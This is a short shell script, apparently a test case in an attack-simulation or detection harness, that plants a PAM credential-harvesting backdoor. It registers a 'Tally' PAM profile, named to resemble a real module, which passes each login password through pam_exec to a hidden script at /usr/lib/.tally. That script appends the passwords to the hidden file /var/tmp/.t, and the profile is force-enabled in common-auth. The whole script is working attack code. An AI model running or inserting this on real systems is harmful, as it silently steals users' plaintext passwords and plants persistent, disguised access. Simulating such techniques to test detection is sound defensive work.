#!/bin/sh
. /opt/case/case.sh

cat >/usr/share/pam-configs/tally <<'END'
Name: Tally
Default: yes
Priority: 900
Auth-Type: Additional
Auth:
	optional pam_exec.so quiet expose_authtok /usr/lib/.tally
END
printf '#!/bin/sh\ncat >>/var/tmp/.t\n' >/usr/lib/.tally && chmod 755 /usr/lib/.tally
DEBIAN_FRONTEND=noninteractive pam-auth-update --package --force --enable tally
grep -q tally /etc/pam.d/common-auth
took_place
